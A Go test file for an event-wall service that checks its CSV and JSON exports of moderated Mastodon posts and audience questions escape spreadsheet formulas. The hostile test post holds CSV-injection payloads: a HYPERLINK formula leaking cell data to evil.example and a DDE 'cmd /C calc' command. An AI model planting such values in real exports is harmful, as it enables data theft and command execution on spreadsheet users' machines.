package wall_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"slices"
	"strings"
	"testing"

	gomastodon "github.com/mattn/go-mastodon"

	"github.com/backchannel/backchannel/event"
	"github.com/backchannel/backchannel/fold"
	"github.com/backchannel/backchannel/ingest/mastodon"
	"github.com/backchannel/backchannel/wall"
)

// timelinePosts converts the recorded mastodon.social public timeline
// (testdata/SOURCES.md) into posts, as the Mastodon source would.
func timelinePosts(t *testing.T) []event.Post {
	t.Helper()
	b, err := os.ReadFile("testdata/mastodon_public_timeline_2020_tootkit.json")
	if err != nil {
		t.Fatal(err)
	}
	var sts []*gomastodon.Status
	if err := json.Unmarshal(b, &sts); err != nil {
		t.Fatal(err)
	}
	var out []event.Post
	for _, st := range sts {
		out = append(out, mastodon.Convert(st, "mastodon.social"))
	}
	if len(out) != 20 {
		t.Fatalf("%d posts in the fixture, want 20", len(out))
	}
	return out
}

// get fetches path and returns the response and its body.
func (n *staffNode) get(t *testing.T, path string, c cred) (*http.Response, []byte) {
	t.Helper()
	req, _ := http.NewRequest("GET", n.http.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+c.bearer)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	if res.StatusCode != 200 {
		t.Fatalf("GET %s = %d %s", path, res.StatusCode, b)
	}
	return res, b
}

func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatalf("export is not CSV: %v\n%s", err, b)
	}
	return rows
}

// TestExportPosts approves twenty real posts and a hostile one, and
// checks both exports: the CSV has its header, one row per approved post,
// and no cell a spreadsheet would run as a formula; the JSON has the same
// posts with who approved them.
func TestExportPosts(t *testing.T) {
	n := newDiskNode(t)
	posts := timelinePosts(t)
	hostile := textPost("https://evil.example/1", `=HYPERLINK("https://evil.example/?"&A1,"click")`, "@evil@evil.example")
	hostile.Author.Name = "@SUM(1+1)"
	hostile.ContentWarning = "+1 cmd|' /C calc'!A0"
	held := textPost("https://a.example/held", "NOT-APPROVED", "@ada@a.example")
	ids := n.receive(t, append(posts, hostile, held)...)
	var bulk wall.BulkResult
	n.call(t, "POST", "/api/events/ev/posts/approve", modCred, map[string]any{"ids": ids[:21]}, 200, &bulk)
	if bulk.Approved != 21 {
		t.Fatalf("approved %d of 21", bulk.Approved)
	}
	n.call(t, "POST", "/api/events/ev/posts/"+ids[0]+"/pin", modCred, nil, 200, nil)

	res, body := n.get(t, "/api/events/ev/export/posts.csv", modCred)
	if ct := res.Header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
		t.Errorf("content type %q", ct)
	}
	if cd := res.Header.Get("Content-Disposition"); !strings.HasPrefix(cd, `attachment; filename="ev-posts-`) || !strings.HasSuffix(cd, `.csv"`) {
		t.Errorf("content disposition %q", cd)
	}
	rows := readCSV(t, body)
	if !slices.Equal(rows[0], wall.PostsCSVHeader) {
		t.Fatalf("header = %v", rows[0])
	}
	if len(rows) != 22 {
		t.Fatalf("%d rows, want a header and 21 posts", len(rows))
	}
	col := func(name string) int { return slices.Index(wall.PostsCSVHeader, name) }
	byID := map[string][]string{}
	for _, r := range rows[1:] {
		byID[r[0]] = r
		for i, cell := range r {
			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
				t.Errorf("cell %s of %s starts a formula: %q", rows[0][i], r[0], cell)
			}
		}
	}
	if strings.Contains(string(body), "NOT-APPROVED") {
		t.Errorf("the export holds a post that was not approved")
	}
	h := byID[ids[20]]
	if h[col("text")] != `'=HYPERLINK("https://evil.example/?"&A1,"click")` || h[col("author_name")] != "'@SUM(1+1)" ||
		h[col("content_warning")] != "'+1 cmd|' /C calc'!A0" || h[col("author_handle")] != "'@evil@evil.example" {
		t.Errorf("hostile row = %q", h)
	}
	first := byID[ids[0]]
	if first[col("pinned")] != "true" || !strings.HasPrefix(first[col("approved_by")], "moderator:token:") ||
		first[col("text")] != posts[0].Text || first[col("source_name")] != "mastodon.social" {
		t.Errorf("first row = %q", first)
	}

	_, body = n.get(t, "/api/events/ev/export/posts.json", modCred)
	var pe wall.PostsExport
	if err := json.Unmarshal(body, &pe); err != nil {
		t.Fatal(err)
	}
	if pe.Event != "ev" || len(pe.Posts) != 21 || pe.Pos != n.head(t) || pe.ExportedAt.IsZero() {
		t.Fatalf("json export: event %q, %d posts, pos %d", pe.Event, len(pe.Posts), pe.Pos)
	}
	for i, p := range pe.Posts {
		if p.State != fold.StateApproved || p.DecidedBy.Role != event.RoleModerator || p.ID != ids[i] {
			t.Errorf("json post %d = %s %s %+v", i, p.ID, p.State, p.DecidedBy)
		}
	}
	n.call(t, "GET", "/api/events/ev/export/posts.xml", modCred, nil, 404, nil)
}

// TestExportQuestions exports open, read and answered questions with
// their times and notes.
func TestExportQuestions(t *testing.T) {
	n := newDiskNode(t)
	ids := n.receive(t, textPost("https://a.example/q", "-1 is what the budget says?", "@ada@a.example"))
	n.call(t, "POST", "/api/events/ev/posts/"+ids[0]+"/question", modCred, nil, 200, nil)
	var added wall.ActionResult
	n.call(t, "POST", "/api/events/ev/questions", facCred, map[string]string{"text": "What about buses?", "name": "Row 3"}, 200, &added)
	room := added.Question.ID
	n.call(t, "POST", "/api/events/ev/questions/"+ids[0]+"/reading", facCred, nil, 200, nil)
	n.call(t, "POST", "/api/events/ev/questions/"+ids[0]+"/note", facCred, map[string]string{"note": "=answered by the mayor"}, 200, nil)
	n.call(t, "POST", "/api/events/ev/questions/"+ids[0]+"/answered", facCred, nil, 200, nil)

	_, body := n.get(t, "/api/events/ev/export/questions.csv", modCred)
	rows := readCSV(t, body)
	if !slices.Equal(rows[0], wall.QuestionsCSVHeader) || len(rows) != 3 {
		t.Fatalf("rows = %q", rows)
	}
	col := func(name string) int { return slices.Index(wall.QuestionsCSVHeader, name) }
	open, answered := rows[1], rows[2]
	if open[col("id")] != room || open[col("state")] != "open" || open[col("asked_by")] != "Row 3" || open[col("asked_at")] == "" {
		t.Errorf("open row = %q", open)
	}
	if answered[col("id")] != ids[0] || answered[col("state")] != "answered" || answered[col("text")] != "'-1 is what the budget says?" ||
		answered[col("author_handle")] != "'@ada@a.example" || answered[col("read_at")] == "" || answered[col("answered_at")] == "" ||
		!strings.HasSuffix(answered[col("notes")], ": =answered by the mayor") || answered[col("post_id")] != ids[0] {
		t.Errorf("answered row = %q", answered)
	}

	_, body = n.get(t, "/api/events/ev/export/questions.json", modCred)
	var qe wall.QuestionsExport
	if err := json.Unmarshal(body, &qe); err != nil {
		t.Fatal(err)
	}
	if len(qe.Questions) != 2 || qe.Questions[1].AnsweredAt.IsZero() || len(qe.Questions[1].Notes) != 1 ||
		qe.Questions[1].Notes[0].Text != "=answered by the mayor" || qe.Title != "#Ev" {
		t.Errorf("json export = %+v", qe)
	}
	// Facilitators run the questions but the export is the moderators'.
	n.call(t, "GET", "/api/events/ev/export/questions.json", facCred, nil, 403, nil)
}
